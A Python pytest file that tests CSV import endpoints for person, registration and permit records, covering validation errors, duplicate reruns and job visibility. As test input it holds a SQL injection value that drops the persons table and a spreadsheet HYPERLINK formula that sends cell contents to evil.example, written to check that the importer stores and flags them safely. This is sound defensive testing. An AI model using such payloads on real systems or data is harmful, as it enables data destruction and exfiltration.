import io
from datetime import date
from typing import Any

import pytest
from sqlalchemy import text

from tests import factories as f
from tests import helpers as h

# Also run on a Citus cluster by `make test` (tests/citus_suites.py).
pytestmark = pytest.mark.citus


def _import(client: Any, app: Any, admin: Any, kind: str, csv_text: str) -> dict:
    resp = client.post(
        f"/api/v1/imports/{kind}",
        data={"file": (io.BytesIO(csv_text.encode()), f"{kind}.csv")},
        headers=admin,
        content_type="multipart/form-data",
    )
    assert resp.status_code == 202, resp.get_json()
    job_url = resp.get_json()["status_url"]
    assert client.get(job_url, headers=admin).get_json()["status"] == "queued"
    h.run_jobs(app)
    job = client.get(job_url, headers=admin).get_json()
    assert job["status"] == "finished", job
    assert job["progress"] == 100
    return job["result"]


def test_persons_import_report_and_rerun(client: Any, app: Any, admin: Any, db: Any) -> None:
    good_iin = f.valid_iin(date(1985, 3, 4), "F")
    csv_text = (
        "iin,surname,given_name,birth_date,sex,citizenship,category,document_type,document_number\n"
        f"{good_iin},Ахметова,Алия,1985-03-04,F,KAZ,citizen,id_card,N0001\n"
        ",Рахимов,Улугбек,1992-11-30,M,UZB,labour_immigrant,passport,FA0000001\n"
        "900517300001,Плохой,ИИН,1990-05-17,M,KAZ,citizen,,\n"
        ",Без,Даты,1992-02-30,M,UZB,labour_immigrant,,\n"
        ",Без,Категории,1992-02-01,M,UZB,astronaut,,\n"
        ",'; DROP TABLE persons; --,X,1990-01-01,M,TJK,labour_immigrant,,\n"
    )
    report = _import(client, app, admin, "persons", csv_text)
    assert report["accepted"] == 3 and report["rejected_count"] == 3
    assert [(r["row"], r["field"]) for r in report["rejected"]] == [
        (4, "iin"),
        (5, "birth_date"),
        (6, "category"),
    ]
    assert h.count(db, "persons") == 3
    again = _import(client, app, admin, "persons", csv_text)
    assert again["accepted"] == 0 and again["duplicates"] == 3 and again["rejected_count"] == 3
    assert h.count(db, "persons") == 3


def test_registrations_and_permits_import(client: Any, app: Any, admin: Any, db: Any) -> None:
    person = f.person(client, admin)
    with db.engine.connect() as conn:
        pavlodar = conn.execute(
            text("SELECT kato FROM settlements WHERE name = 'Pavlodar'")
        ).scalar()
    regs = (
        "person_iin,kind,address,lat,lon,settlement_kato,valid_from,valid_to\n"
        f"{person['iin']},temporary,ул. Абая 1,51.16,71.47,,2026-01-10,2026-12-31\n"
        f"{person['iin']},permanent,,,,{pavlodar},2026-01-10,\n"
        f"{person['iin']},temporary,Бишкек,42.87,74.57,,2026-02-01,\n"
        "000000000000,temporary,,51.16,71.47,,2026-02-01,\n"
        f"{person['iin']},temporary,,95,71.47,,2026-02-01,\n"
    )
    report = _import(client, app, admin, "registrations", regs)
    assert report["accepted"] == 2
    assert [(r["row"], r["field"]) for r in report["rejected"]] == [
        (4, "location"),
        (5, "person_iin"),
        (6, "location.lat"),
    ]
    assert _import(client, app, admin, "registrations", regs)["duplicates"] == 2
    assert h.count(db, "registrations") == 2

    permits = (
        "person_iin,employer_bin,region_kato,valid_from,valid_to\n"
        f"{person['iin']},,710000000,2026-01-10,2026-07-09\n"
        f"{person['iin']},,710000000,2026-01-10,2027-07-09\n"
        f"{person['iin']},123456789012,710000000,2026-01-10,2026-07-09\n"
    )
    report = _import(client, app, admin, "permits", permits)
    assert report["accepted"] == 1
    assert [r["field"] for r in report["rejected"]] == ["valid_to", "employer_bin"]
    assert _import(client, app, admin, "permits", permits)["accepted"] == 0
    assert h.count(db, "permits") == 1


def test_wrong_header_is_rejected_at_upload(client: Any, admin: Any) -> None:
    resp = client.post(
        "/api/v1/imports/persons", data=b"a,b\n1,2\n", headers=admin, content_type="text/csv"
    )
    assert resp.status_code == 422 and resp.get_json()["errors"][0]["field"] == "file"


def test_job_is_visible_to_its_owner_only(client: Any, admin: Any, token: Any) -> None:
    resp = client.post(
        "/api/v1/imports/persons",
        data=b"surname,given_name,birth_date,sex,citizenship,category\n",
        headers=admin,
        content_type="text/csv",
    )
    url = resp.get_json()["status_url"]
    assert client.get(url, headers=admin).status_code == 200
    assert client.get(url, headers=token("admin")).status_code == 404


def test_formula_cells_are_flagged_on_import(client: Any, app: Any, admin: Any) -> None:
    """Issue 28, F16: a surname ``=HYPERLINK(…)`` is a formula to any spreadsheet that
    opens an export; the import keeps it as typed but flags it for a human."""
    csv_text = (
        "iin,surname,given_name,birth_date,sex,citizenship,category,document_type,document_number\n"
        ',"=HYPERLINK(""http://evil.example/?d=""&A1,""x"")",Алия,1985-03-04,F,UZB,'
        "labour_immigrant,passport,FA1000001\n"
        ",Рахимов,@SUM(1),1992-11-30,M,UZB,labour_immigrant,passport,+FA1000002\n"
        ",Честный,Улугбек,1992-11-30,M,UZB,labour_immigrant,passport,FA1000003\n"
    )
    report = _import(client, app, admin, "persons", csv_text)
    assert report["accepted"] == 3
    assert [(c["row"], c["field"]) for c in report["formula_cells"]] == [
        (2, "surname"),
        (3, "given_name"),
        (3, "document_number"),
    ]
